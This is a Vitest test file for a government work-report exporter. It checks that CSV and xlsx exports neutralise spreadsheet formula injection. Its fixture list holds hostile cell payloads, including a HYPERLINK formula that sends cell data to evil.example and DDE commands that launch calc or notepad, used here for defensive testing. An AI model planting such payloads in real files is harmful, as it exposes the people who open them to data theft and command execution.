// Exports opened in Excel or WPS must show a hostile report text, never evaluate it (CSV injection).
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { guardFormula, looksLikeFormula } from '../../src/export/formula-guard.js';
import type { ProgressTable } from '../../src/export/model.js';
import { writeProgressCsv } from '../../src/export/progress-csv.js';
import { writeProgressXlsx } from '../../src/export/progress-xlsx.js';
import { readCsv } from './csv-read.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看附件")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C notepad'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const table = (progress: string[]): ProgressTable => ({
  title: '2024年某县政府工作报告重点工作任务一季度进展情况表',
  planTitle: '2024年某县政府工作报告重点工作任务',
  periodLabel: '2024Q1',
  withStatus: true,
  rows: progress.map((text, i) => ({
    seq: i + 1,
    theme: '扩大有效投资',
    category: null,
    target: i === 0 ? '=1+2' : `完成重点项目投资${i + 1}亿元`,
    leaders: ['陶峰'],
    units: i === 1 ? ['@区发展改革局'] : ['区发展改革局'],
    progress: text,
    status: 'on_track',
    reason: i === 2 ? '+已完成' : '进度正常',
  })),
});

const decode = (bytes: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);

describe('formula guard', () => {
  it('prefixes a quote to cells starting with = + - @ tab or CR and leaves other text alone', () => {
    for (const text of HOSTILE) {
      expect(looksLikeFormula(text)).toBe(true);
      expect(guardFormula(text)).toBe(`'${text}`);
    }
    for (const text of ['已完成投资12亿元', '1-11月完成', '', "'已加引号", '５月＝开工']) {
      expect(looksLikeFormula(text)).toBe(false);
      expect(guardFormula(text)).toBe(text);
    }
  });
});

describe('CSV export of hostile report texts', () => {
  it('writes no cell that a spreadsheet would evaluate, and keeps the text after the guard', () => {
    const rows = readCsv(decode(writeProgressCsv(table(HOSTILE))));
    const cells = rows.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(rows.slice(1).map((r) => r[6])).toEqual(HOSTILE.map((t) => `'${t}`));
    expect(rows[1][3]).toBe("'=1+2");
    expect(rows[2][5]).toBe("'@区发展改革局");
    expect(rows[3][8]).toBe("'+已完成");
  });

  it('leaves ordinary Chinese report texts unchanged', () => {
    const rows = readCsv(decode(writeProgressCsv(table(['1-11月完成投资12亿元，同比增长5%。']))));
    expect(rows[1][6]).toBe('1-11月完成投资12亿元，同比增长5%。');
  });
});

describe('xlsx export of hostile report texts', () => {
  it('stores such text as a string, never as a formula', async () => {
    const zip = await JSZip.loadAsync(await writeProgressXlsx(table(HOSTILE)));
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).not.toContain('<f>');
    expect(sheet).not.toMatch(/t="str"/);
    const shared = await zip.file('xl/sharedStrings.xml')!.async('string');
    expect(shared).toContain('=cmd|');
    expect(shared).toContain('HYPERLINK');
  });
});
